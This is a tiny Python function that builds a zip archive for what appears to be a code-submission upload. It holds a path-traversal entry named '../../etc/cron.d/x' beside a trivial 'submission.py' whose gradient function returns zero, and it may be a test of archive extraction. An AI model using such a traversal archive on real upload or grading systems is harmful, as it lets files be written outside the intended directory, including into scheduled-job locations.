def make():
    import io,zipfile; b=io.BytesIO(); z=zipfile.ZipFile(b,'w')
    z.writestr('../../etc/cron.d/x','x'); z.writestr('submission.py','def grad(x): return x*0'); z.close(); return b.getvalue()
